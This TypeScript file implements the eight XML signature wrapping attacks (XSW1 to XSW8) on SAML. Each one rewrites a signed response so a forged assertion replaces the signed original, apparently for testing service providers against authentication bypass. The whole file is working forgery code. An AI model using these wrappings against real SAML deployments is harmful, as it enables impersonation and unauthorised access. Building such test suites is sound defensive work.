/**
 * The eight signature wrapping attacks of "On Breaking SAML" (Somorovsky and others, 2012): a signed element is moved
 * to where only the verification reads it, and a forged one takes its place.
 */
import { swap } from "./identity-provider.ts";

const assertionPattern = /<saml:Assertion .*<\/saml:Assertion>/s;
const signaturePattern = /<ds:Signature .*?<\/ds:Signature>/s;
const part = (xml: string, pattern: RegExp): string => {
  const found = pattern.exec(xml)?.[0];
  if (found === undefined) throw new Error(`no ${pattern}`);
  return found;
};
const unsigned = (xml: string) => xml.replace(signaturePattern, "");
const renamed = (xml: string) => xml.replace(/ ID="[^"]*"/, ' ID="_forged"');
const before = (end: string, added: string) => swap(end, `${added}${end}`);

/** Each takes a signed response and a function that changes the subject of an assertion. */
export const wrappings: Record<
  string,
  { signs: "Assertion" | "Response"; wrap: (xml: string, forge: (xml: string) => string) => string }
> = {
  "XSW1: forged response around, original in its signature": {
    signs: "Response",
    wrap: (xml, forge) => before("</ds:Signature>", unsigned(xml))(renamed(forge(xml))),
  },
  "XSW2: forged response around, original before its signature": {
    signs: "Response",
    wrap: (xml, forge) => before(part(xml, signaturePattern), unsigned(xml))(renamed(forge(xml))),
  },
  "XSW3: forged assertion before the original": {
    signs: "Assertion",
    wrap(xml, forge) {
      const assertion = part(xml, assertionPattern);
      return before(assertion, renamed(unsigned(forge(assertion))))(xml);
    },
  },
  "XSW4: forged assertion around the original": {
    signs: "Assertion",
    wrap(xml, forge) {
      const assertion = part(xml, assertionPattern);
      const forged = renamed(unsigned(forge(assertion)));
      return swap(assertion, before("</saml:Assertion>", assertion)(forged))(xml);
    },
  },
  "XSW5: forged assertion with the signature, original after it": {
    signs: "Assertion",
    wrap(xml, forge) {
      const assertion = part(xml, assertionPattern);
      return swap(assertion, `${renamed(forge(assertion))}${unsigned(assertion)}`)(xml);
    },
  },
  "XSW6: forged assertion with the signature, original in the signature": {
    signs: "Assertion",
    wrap(xml, forge) {
      const assertion = part(xml, assertionPattern);
      return swap(assertion, before("</ds:Signature>", unsigned(assertion))(renamed(forge(assertion))))(xml);
    },
  },
  "XSW7: forged assertion in Extensions": {
    signs: "Assertion",
    wrap(xml, forge) {
      const forged = unsigned(forge(part(xml, assertionPattern)));
      return before("<samlp:Status>", `<samlp:Extensions>${forged}</samlp:Extensions>`)(xml);
    },
  },
  "XSW8: original in an Object of the forged assertion's signature": {
    signs: "Assertion",
    wrap(xml, forge) {
      const assertion = part(xml, assertionPattern);
      const object = `<ds:Object>${unsigned(assertion)}</ds:Object>`;
      return swap(assertion, before("</ds:Signature>", object)(forge(assertion)))(xml);
    },
  },
};
